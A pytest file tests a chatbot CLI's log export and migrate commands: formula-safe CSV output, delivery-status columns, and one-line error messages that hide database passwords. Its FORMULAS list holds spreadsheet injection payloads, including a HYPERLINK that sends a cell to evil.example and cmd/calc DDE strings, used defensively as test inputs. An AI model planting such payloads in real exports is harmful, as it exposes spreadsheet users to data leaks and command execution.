"""`regbot log export` / `migrate`: formula-safe CSV, delivery state, and one line (no traceback)
for every way the output or the database can be wrong."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bot.cli import app
from bot.inquiry_log import InquiryLog
from bot.settings import get_settings
from tests.bot.slack.fakes import calculator_answer

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _invoke(monkeypatch, *args: str, env: dict[str, str] | None = None):
    for key, value in (env or {}).items():
        monkeypatch.setenv(key, value)
    get_settings.cache_clear()
    return CliRunner().invoke(app, ["log", *args])


def _one_line_failure(result) -> str:
    """The one stderr line of a failed command (exit 1, no traceback); the test checks what it says."""
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output
    return lines[0]


@pytest.fixture
def seeded_log():
    log = InquiryLog.from_settings(get_settings())
    for text in [*FORMULAS, "年會 1 次幾分？", "a - b"]:
        log.record_inquiry(source="dm", question=text, answer=calculator_answer(text), user_id="U1", channel_id="D1")
    yield log
    log.close()


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(monkeypatch, seeded_log):
    result = _invoke(monkeypatch, "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    questions = [r["question"] for r in rows]
    assert questions == ["'" + f for f in FORMULAS] + ["年會 1 次幾分？", "a - b"]
    for row in rows:  # no cell of any column starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell), row


def test_jsonl_keeps_the_text_as_asked(monkeypatch, seeded_log):
    result = _invoke(monkeypatch, "export", "--format", "jsonl")
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["question"] for line in result.stdout.splitlines()][:len(FORMULAS)] == FORMULAS


def test_export_shows_the_delivery_status_and_error(monkeypatch):
    log = InquiryLog.from_settings(get_settings())
    ok = log.record_inquiry(source="mention", question="q1", answer=calculator_answer(), channel_id="C1", thread_ts="1.1")
    log.delivery_done(ok, parts=1, reply_ts="1.2")
    lost = log.record_inquiry(source="mention", question="q2", answer=calculator_answer(), channel_id="C1", thread_ts="2.1")
    log.delivery_failed(lost, "SlackApiError: HTTP 500 internal_error", parts=0, reply_ts=None)
    log.close()
    rows = list(csv.DictReader(io.StringIO(_invoke(monkeypatch, "export").stdout)))
    assert [(r["delivery_status"], r["delivery_error"], r["delivery_attempts"]) for r in rows] == [
        ("delivered", "", "1"), ("failed", "SlackApiError: HTTP 500 internal_error", "1")]


# -- one line for each way it can go wrong ----------------------------------------------


def test_a_missing_output_folder(monkeypatch, tmp_path):
    target = tmp_path / "no" / "such" / "folder" / "out.csv"
    line = _one_line_failure(_invoke(monkeypatch, "export", "--output", str(target)))
    assert "does not exist" in line and str(target.parent) in line


def test_an_output_that_is_a_folder(monkeypatch, tmp_path):
    assert "is a folder" in _one_line_failure(_invoke(monkeypatch, "export", "--output", str(tmp_path)))


@pytest.fixture
def read_only_folder(tmp_path):
    """A folder this process cannot write to, also as root (chattr +i where permissions do not bind)."""
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    immutable = False
    if _writable(folder):  # root ignores permission bits
        immutable = subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode == 0
        if _writable(folder):
            pytest.skip("cannot make a read-only folder here (root without chattr +i)")
    yield folder
    if immutable:
        subprocess.run(["chattr", "-i", str(folder)], check=True)
    folder.chmod(0o755)


def _writable(folder: Path) -> bool:
    probe = folder / ".probe"
    try:
        probe.write_text("x")
    except OSError:
        return False
    probe.unlink()
    return True


def test_a_read_only_output_folder(monkeypatch, read_only_folder):
    target = read_only_folder / "out.csv"
    assert f"cannot write {target}" in _one_line_failure(_invoke(monkeypatch, "export", "-o", str(target)))


def test_a_read_only_data_folder(monkeypatch, read_only_folder):
    line = _one_line_failure(_invoke(monkeypatch, "export", env={"REGBOT_DATA_DIR": str(read_only_folder)}))
    assert "inquiries.sqlite3" in line and "read-only" in line


def test_a_data_folder_that_cannot_be_created(monkeypatch, read_only_folder):
    line = _one_line_failure(_invoke(monkeypatch, "export", env={"REGBOT_DATA_DIR": str(read_only_folder / "sub")}))
    assert "REGBOT_DATA_DIR" in line and "cannot create" in line
    line = _one_line_failure(_invoke(monkeypatch, "migrate", env={"REGBOT_DATA_DIR": str(read_only_folder / "sub")}))
    assert "REGBOT_DATA_DIR" in line


def test_a_database_that_is_down_and_its_password_is_not_shown(monkeypatch, tmp_path):
    url = "postgresql+psycopg://regbot:s3cr3tpw@127.0.0.1:1/regbot?connect_timeout=5"
    for command in ("export", "migrate"):
        line = _one_line_failure(_invoke(monkeypatch, command, env={"REGBOT_DATABASE_URL": url}))
        assert "127.0.0.1" in line and "refused" in line
        assert "s3cr3tpw" not in line and "***" in line


def test_a_database_that_does_not_exist(monkeypatch, postgres_server):
    url = postgres_server.get_uri(database="no_such_database", driver="psycopg")
    line = _one_line_failure(_invoke(monkeypatch, "export", env={"REGBOT_DATABASE_URL": url}))
    assert 'database "no_such_database" does not exist' in line


@pytest.mark.parametrize(
    ("url", "needle"),
    [
        ("postgresql+psycopg2://regbot@db.example/regbot", "driver for 'postgresql+psycopg2' is not installed"),
        ("mysql://regbot@db.example/regbot", "driver for 'mysql' is not installed"),
        ("not a url at all", "not a database URL"),
        ("nosuchdb://regbot@db.example/regbot", "unknown database kind 'nosuchdb'"),
    ],
    ids=["missing-driver", "missing-mysql-driver", "unparsable", "unknown-kind"],
)
def test_a_wrong_database_url_names_the_setting(monkeypatch, url, needle):
    line = _one_line_failure(_invoke(monkeypatch, "export", env={"REGBOT_DATABASE_URL": url}))
    assert "REGBOT_DATABASE_URL" in line and needle in line


def test_the_console_script_prints_one_line_too(tmp_path):
    """Through the installed `regbot` entry point, as staff run it."""
    import os
    import sys

    env = {**os.environ, "REGBOT_DATA_DIR": str(tmp_path), "REGBOT_DATABASE_URL": "not a url"}
    done = subprocess.run([str(Path(sys.executable).parent / "regbot"), "log", "export"], capture_output=True,
                          text=True, env=env, timeout=60)
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [
        "regbot log export: REGBOT_DATABASE_URL: not a database URL (expected sqlite:///PATH or postgresql+psycopg://USER@HOST/DB)"]
